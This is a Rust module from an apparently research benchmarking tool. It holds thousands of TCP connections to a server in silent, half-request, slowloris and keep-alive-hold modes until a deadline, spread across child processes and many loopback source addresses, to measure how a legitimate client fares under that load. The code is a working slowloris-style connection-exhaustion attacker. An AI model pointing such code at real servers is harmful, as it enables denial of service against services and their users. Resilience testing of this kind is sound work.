//! Attackers for the conditioning experiments (seed 004): hold `n` connections to a
//! server in one of the paper's attack shapes until a deadline, re-opening every
//! connection the server closes, so the pressure stays constant.
//!
//! Owns the attack connections only; the experiments (`experiments/`) measure a
//! legitimate client beside them. One process holds at most [`PER_PROCESS`]
//! connections (its descriptor limit); past that the experiments start more
//! processes (`sluice bench attack ...`). Loopback only by design of the callers;
//! every attack ends at its deadline.

use mio::net::TcpStream;
use mio::{Events, Interest, Poll, Token};
use std::io::{self, Read, Write};
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

/// Connections one attacking process holds (under its 20,000 descriptors).
pub const PER_PROCESS: usize = 15_000;
/// Connections per source address (each address has ~28,000 ports to a destination).
pub const PER_SOURCE: usize = 20_000;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mode {
    /// Connect and send nothing.
    Silent,
    /// Send half a request head, then nothing.
    Half,
    /// Half a head, then one more header line every 5 s (slowloris).
    Slowloris,
    /// One small request on keep-alive, read the answer, then hold the connection.
    Hold,
}

impl Mode {
    pub fn parse(s: &str) -> Option<Mode> {
        Some(match s {
            "silent" => Mode::Silent,
            "half" => Mode::Half,
            "slowloris" => Mode::Slowloris,
            "hold" => Mode::Hold,
            _ => return None,
        })
    }
}

/// What an attack did.
#[derive(Clone, Copy, Debug, Default, serde::Serialize, serde::Deserialize)]
pub struct AttackStats {
    /// Connections opened in all (first opens and re-opens).
    pub opened: u64,
    /// Connections the server closed (or failed), each re-opened.
    pub closed: u64,
    /// Most held at once.
    pub peak: u64,
}

struct Conn {
    sock: TcpStream,
    sent_head: bool,
}

/// Hold `n` connections to `addr` in `mode` from `sources` until `duration` ends.
pub fn hold(
    addr: SocketAddr,
    path: &str,
    mode: Mode,
    n: usize,
    sources: &[IpAddr],
    duration: Duration,
) -> io::Result<AttackStats> {
    let deadline = Instant::now() + duration;
    let mut poll = Poll::new()?;
    let mut events = Events::with_capacity(4096);
    let mut conns: slab::Slab<Conn> = slab::Slab::with_capacity(n);
    let mut st = AttackStats::default();
    let half =
        format!("GET {path} HTTP/1.1\r\nHost: attack\r\nUser-Agent: sluice-bench-attack\r\n");
    let full = format!("{half}\r\n");
    let mut opened_total = 0usize;
    let mut next_drip = Instant::now() + Duration::from_secs(5);
    let open = |poll: &mut Poll, conns: &mut slab::Slab<Conn>, k: usize| -> io::Result<()> {
        let std = crate::socket::open(addr, sources, k)?;
        let mut sock = TcpStream::from_std(std);
        let e = conns.vacant_entry();
        poll.registry().register(
            &mut sock,
            Token(e.key()),
            Interest::READABLE | Interest::WRITABLE,
        )?;
        e.insert(Conn {
            sock,
            sent_head: false,
        });
        Ok(())
    };
    // Open in batches so the listen backlog is not one burst of n SYNs.
    while Instant::now() < deadline {
        while conns.len() < n && Instant::now() < deadline {
            if open(&mut poll, &mut conns, opened_total).is_err() {
                break; // out of ports or descriptors for now: retry next turn
            }
            opened_total += 1;
            st.opened += 1;
            if conns.len() & 255 == 0 {
                break;
            }
        }
        st.peak = st.peak.max(conns.len() as u64);
        poll.poll(&mut events, Some(Duration::from_millis(20)))?;
        let mut dead = Vec::new();
        for ev in events.iter() {
            let k = ev.token().0;
            let Some(c) = conns.get_mut(k) else { continue };
            if ev.is_error() || ev.is_read_closed() {
                dead.push(k);
                continue;
            }
            if ev.is_writable() && !c.sent_head && mode != Mode::Silent {
                let msg = if mode == Mode::Hold { &full } else { &half };
                if c.sock.write_all(msg.as_bytes()).is_err() {
                    dead.push(k);
                    continue;
                }
                c.sent_head = true;
            }
            if ev.is_readable() {
                let mut buf = [0u8; 16384];
                loop {
                    match c.sock.read(&mut buf) {
                        Ok(0) => {
                            dead.push(k);
                            break;
                        }
                        Ok(_) => continue,
                        Err(e) if e.kind() == io::ErrorKind::WouldBlock => break,
                        Err(_) => {
                            dead.push(k);
                            break;
                        }
                    }
                }
            }
        }
        for k in dead {
            if let Some(mut c) = conns.try_remove(k) {
                let _ = poll.registry().deregister(&mut c.sock);
                st.closed += 1;
            }
        }
        if mode == Mode::Slowloris && Instant::now() >= next_drip {
            next_drip += Duration::from_secs(5);
            for (_, c) in conns.iter_mut() {
                if c.sent_head {
                    let _ = c.sock.write_all(b"X-Slow: 1\r\n");
                }
            }
        }
    }
    Ok(st)
}

/// Run an attack of `n` connections in `ceil(n / PER_PROCESS)` child processes
/// (`sluice bench attack`), spread over 127.x source addresses. Returns the
/// children; each ends by itself after `duration`.
pub fn spawn(
    url: &str,
    mode: &str,
    n: usize,
    duration: Duration,
    first_source: u8,
) -> Result<Vec<std::process::Child>, String> {
    let procs = n.div_ceil(PER_PROCESS).max(1);
    let mut kids = Vec::new();
    for p in 0..procs {
        let share = n / procs + usize::from(p < n % procs);
        if share == 0 {
            continue;
        }
        let sources: Vec<String> = (0..share.div_ceil(PER_SOURCE).max(1))
            .map(|s| format!("127.{first_source}.{}.1", p * 4 + s))
            .collect();
        let child = crate::process::load_process()?
            .args(["bench", "attack", mode, url])
            .args(["-c", &share.to_string()])
            .args(["-d", &format!("{}ms", duration.as_millis())])
            .args(["--source-addrs", &sources.join(",")])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .map_err(|e| format!("sluice bench attack: {e}"))?;
        kids.push(child);
    }
    Ok(kids)
}

/// Wait for spawned attackers and sum what they report.
pub fn reap(kids: Vec<std::process::Child>) -> AttackStats {
    let mut total = AttackStats::default();
    for k in kids {
        if let Ok(out) = k.wait_with_output() {
            if let Ok(s) = serde_json::from_slice::<AttackStats>(&out.stdout) {
                total.opened += s.opened;
                total.closed += s.closed;
                total.peak += s.peak;
            }
        }
    }
    total
}
